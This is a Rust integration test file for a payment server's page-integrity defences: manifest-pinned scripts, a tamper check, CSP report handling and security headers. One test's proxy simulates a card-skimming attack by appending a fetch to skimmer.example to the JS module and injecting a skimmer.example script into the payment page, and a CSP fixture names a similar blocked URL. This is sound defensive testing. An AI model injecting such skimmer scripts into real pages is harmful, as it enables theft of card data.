//! The payment page's scripts pinned to the release's manifest, its
//! inventory, the check that notices a changed header or script, the CSP
//! reports, and the headers of every response.

use crate::helpers::{CHALLENGE_CARD, CVV, TestApp, card_fields, header, location};
use axum::body::Body;
use axum::extract::{Request, State};
use axum::response::Response;
use server::config::ProcessorKind;
use server::page_integrity::manifest::{Manifest, integrity_of};

const PAY: &str = "/pay/11202600000009";

/// A server whose site has a built module, WebAssembly and stylesheet and
/// their manifest, as `server manifest` writes it after a build.
async fn spawn_released() -> (TestApp, Manifest) {
    let data_dir = tempfile::tempdir().expect("temporary directory");
    let pkg = data_dir.path().join("pkg");
    std::fs::create_dir(&pkg).expect("pkg");
    std::fs::write(
        pkg.join("tolem.js"),
        "export default async function init() {}\n",
    )
    .expect("js");
    std::fs::write(pkg.join("tolem.wasm"), b"\0asm\x01\0\0\0").expect("wasm");
    std::fs::write(pkg.join("tolem.css"), "body { margin: 0 }\n").expect("css");
    let manifest = Manifest::make(data_dir.path(), chrono::Utc::now()).expect("manifest");
    manifest.write(data_dir.path()).expect("written");
    let url = server::testing::sqlite_url(data_dir.path());
    let app = TestApp::spawn_on(data_dir, &url, ProcessorKind::Sandbox).await;
    (app, manifest)
}

/// No module, import map or WebAssembly (Leptos's two inline scripts set
/// empty lists and load nothing).
fn assert_loads_no_code(html: &str) {
    for code in ["importmap", "type=\"module\"", ".js\"", ".wasm"] {
        assert!(!html.contains(code), "{code}: {html}");
    }
}

#[tokio::test]
async fn the_payment_page_pins_its_scripts_and_stylesheet_to_the_release() {
    let (app, manifest) = spawn_released().await;
    let (_, html) = app.get_html(PAY).await;
    let assets = &manifest.assets;
    assert!(html.contains(&assets.import_map()), "{html}");
    assert!(
        html.contains(&assets.loader()),
        "the loader as the manifest hashed it"
    );
    // The loader imports the module (pinned by the import map) and fetches
    // the WebAssembly with its hash; neither is preloaded, so neither holds
    // back the page's first paint.
    assert!(assets.loader().contains(&assets.wasm.integrity));
    assert!(assets.import_map().contains(&assets.module.integrity));
    assert!(!html.contains(r#"rel="modulepreload""#), "{html}");
    assert!(!html.contains(r#"rel="preload""#), "{html}");
    let stylesheet = &assets.stylesheet;
    let link = html
        .split("<link ")
        .find(|link| link.contains(&format!(r#"href="{}""#, stylesheet.path)))
        .unwrap_or_default();
    assert!(
        link.contains(&format!(r#"integrity="{}""#, stylesheet.integrity)),
        "{} pinned: {html}",
        stylesheet.path
    );
    // A page without an island pins its stylesheet and loads no code.
    let (_, home) = app.get_html("/").await;
    assert!(home.contains(&assets.stylesheet.integrity));
    assert_loads_no_code(&home);

    // The 3-D Secure step's one script is the manifest's too.
    let challenge = app
        .post_card_form("11202600000008", &card_fields(CHALLENGE_CARD, CVV))
        .await;
    let (_, step) = app.get_html(&location(&challenge)).await;
    let script = step
        .split("<script")
        .find_map(|s| s.split_once("\">")?.1.split_once("</script>"))
        .map(|(text, _)| text)
        .unwrap_or_default();
    assert_eq!(script, app::integrity::THREE_DS_SUBMIT, "{step}");
    let entry = manifest.scripts.iter().find(|s| s.page == "/payment/{id}");
    assert_eq!(
        entry.map(|s| s.integrity.clone()),
        Some(integrity_of(script.as_bytes()))
    );

    let inventory = app.get(app::paths::PAYMENT_PAGE_INVENTORY).await;
    assert_eq!(inventory.status(), 200);
    let served: Manifest = inventory.json().await.expect("the manifest as JSON");
    assert_eq!(served, manifest);
}

#[tokio::test]
async fn a_release_without_a_manifest_offers_no_script() {
    let app = TestApp::spawn().await;
    let (status, html) = app.get_html(PAY).await;
    assert_eq!(status, 200);
    assert_loads_no_code(&html);
    assert!(
        html.contains(r#"<form method="post""#),
        "the form still posts: {html}"
    );
    let inventory = app.get(app::paths::PAYMENT_PAGE_INVENTORY).await;
    assert_eq!(inventory.status(), 404);
    assert_eq!(
        header(&inventory, "content-type"),
        "application/problem+json"
    );
}

/// What stands between browsers and the site when someone changed it on
/// the way: a header loosened, a line added to the module, a script added.
async fn tampering_proxy(upstream: String) -> String {
    async fn tamper(State(upstream): State<String>, request: Request) -> Response {
        let path = request.uri().path().to_string();
        let answer = reqwest::get(format!("{upstream}{path}"))
            .await
            .expect("upstream");
        let mut response = Response::builder().status(answer.status().as_u16());
        for (name, value) in answer.headers() {
            if name != "content-length" && name != "permissions-policy" {
                response = response.header(name.as_str(), value.as_bytes());
            }
        }
        response = response.header("permissions-policy", "camera=*");
        let mut body = answer.bytes().await.expect("body").to_vec();
        if path.starts_with("/pkg/tolem.") && path.ends_with(".js") {
            body.extend_from_slice(b"fetch('https://skimmer.example/c');\n");
        }
        if path.starts_with("/pay/") {
            let page = String::from_utf8_lossy(&body).replace(
                "</head>",
                r#"<script src="https://skimmer.example/c.js"></script></head>"#,
            );
            body = page.into_bytes();
        }
        response.body(Body::from(body)).expect("response")
    }
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind");
    let address = format!("http://{}", listener.local_addr().expect("address"));
    let router = axum::Router::new().fallback(tamper).with_state(upstream);
    tokio::spawn(async move { axum::serve(listener, router).await });
    address
}

async fn check_page(url: &str, manifest: &std::path::Path) -> (i32, String) {
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_server"));
    command
        .args(["check-page", url, "--manifest"])
        .arg(manifest);
    let output = tokio::task::spawn_blocking(move || command.output())
        .await
        .expect("joined")
        .expect("server check-page runs");
    let said = String::from_utf8_lossy(&output.stdout).into_owned()
        + &String::from_utf8_lossy(&output.stderr);
    (output.status.code().unwrap_or(-1), said)
}

#[tokio::test]
async fn check_page_reports_a_changed_header_and_script() {
    let (app, released) = spawn_released().await;
    let manifest = app.data_dir.path().join("payment-page.json");
    let (code, said) = check_page(&app.url(PAY), &manifest).await;
    assert_eq!(code, 0, "{said}");
    assert!(said.contains("unchanged"), "{said}");

    let proxy = tampering_proxy(app.address.clone()).await;
    let (code, said) = check_page(&format!("{proxy}{PAY}"), &manifest).await;
    assert_eq!(code, 1, "{said}");
    assert!(
        said.contains("header permissions-policy changed: \"camera=*\""),
        "{said}"
    );
    assert!(
        said.contains(&format!(
            "{} is not the release's",
            released.assets.module.path
        )),
        "{said}"
    );
    assert!(
        said.contains("a script not in the manifest: https://skimmer.example/c.js"),
        "{said}"
    );
    assert!(said.contains("3 difference(s)"), "{said}");

    let (code, said) = check_page("http://127.0.0.1:9/pay/1", &manifest).await;
    assert_eq!(code, 2, "an unreachable page cannot be checked: {said}");
}

#[tokio::test]
async fn csp_reports_are_kept_without_card_data_and_limited() {
    let app = TestApp::spawn().await;
    let post = |body: String, kind: &'static str| {
        app.client
            .post(app.url(app::paths::CSP_REPORTS))
            .header("content-type", kind)
            .body(body)
            .send()
    };
    let report = r#"{"csp-report": {"document-uri": "http://x/pay/11202600000009?card=4111111111111111",
        "effective-directive": "script-src-elem",
        "blocked-uri": "https://skimmer.example/4111111111111111?c=4111 1111 1111 1111",
        "script-sample": "4111111111111111", "disposition": "enforce"}}"#;
    assert_eq!(
        post(report.into(), "application/csp-report")
            .await
            .expect("sent")
            .status(),
        204
    );
    let batch = r#"[{"type": "csp-violation", "body": {"documentURL": "http://x/",
        "effectiveDirective": "connect-src", "blockedURL": "inline"}}]"#;
    assert_eq!(
        post(batch.into(), "application/reports+json")
            .await
            .expect("sent")
            .status(),
        204
    );
    let values = app.database_values().await.join("\n");
    assert!(
        values.contains("https://skimmer.example"),
        "the blocked origin is kept"
    );
    assert!(values.contains("/pay/11202600000009"));
    assert!(!values.contains("4111"), "no card digits kept: {values}");

    let large = format!("{{\"csp-report\": {{\"x\": \"{}\"}}}}", "a".repeat(20_000));
    assert_eq!(
        post(large, "application/csp-report")
            .await
            .expect("sent")
            .status(),
        413
    );
    let mut statuses = Vec::new();
    for _ in 0..25 {
        statuses.push(
            post(batch.into(), "application/reports+json")
                .await
                .expect("sent")
                .status(),
        );
    }
    assert!(
        statuses.iter().any(|s| *s == 429),
        "one client is limited: {statuses:?}"
    );
}

#[tokio::test]
async fn every_response_carries_the_isolation_headers_and_a_request_id() {
    let app = TestApp::spawn().await;
    for path in [
        "/",
        PAY,
        "/health",
        "/api/v1/payment-requests",
        "/no-such-page",
    ] {
        let response = app.get(path).await;
        assert_eq!(
            header(&response, "cross-origin-opener-policy"),
            "same-origin",
            "{path}"
        );
        assert_eq!(
            header(&response, "cross-origin-resource-policy"),
            "same-origin",
            "{path}"
        );
        let permissions = header(&response, "permissions-policy");
        assert!(
            permissions.contains("camera=()") && permissions.contains("payment=()"),
            "{path}"
        );
        assert!(header(&response, "content-security-policy").contains("report-uri /csp-reports"));
        assert_eq!(header(&response, "x-request-id").len(), 36, "{path}");
    }
    // What answers a post may show what was typed: never kept by a cache.
    let answer = app
        .post_card_form("11202600000009", &[("cardholder", "x")])
        .await;
    assert_eq!(answer.status(), 422);
    assert_eq!(header(&answer, "cache-control"), "no-store");
    let feedback = app
        .client
        .post(app.url(app::paths::FEEDBACK))
        .form(&[("topic", "other"), ("message", "")])
        .send()
        .await
        .expect("sent");
    assert_eq!(header(&feedback, "cache-control"), "no-store");
}

/// The release's files under their hashed names are kept by browsers for a
/// year without asking again; under their plain names, revalidated.
#[tokio::test]
async fn hashed_files_are_kept_for_good_and_plain_ones_revalidated() {
    let (app, manifest) = spawn_released().await;
    for pinned in [
        &manifest.assets.module,
        &manifest.assets.wasm,
        &manifest.assets.stylesheet,
    ] {
        let response = app.get(&pinned.path).await;
        assert_eq!(response.status(), 200, "{}", pinned.path);
        assert_eq!(
            header(&response, "cache-control"),
            "public, max-age=31536000, immutable",
            "{}",
            pinned.path
        );
    }
    let plain = app.get("/pkg/tolem.js").await;
    assert_eq!(plain.status(), 200);
    assert_eq!(header(&plain, "cache-control"), "no-cache");
    let unknown = app.get("/pkg/tolem.0123456789abcdef.js").await;
    assert_eq!(unknown.status(), 404);
    assert_ne!(
        header(&unknown, "cache-control"),
        "public, max-age=31536000, immutable"
    );
}
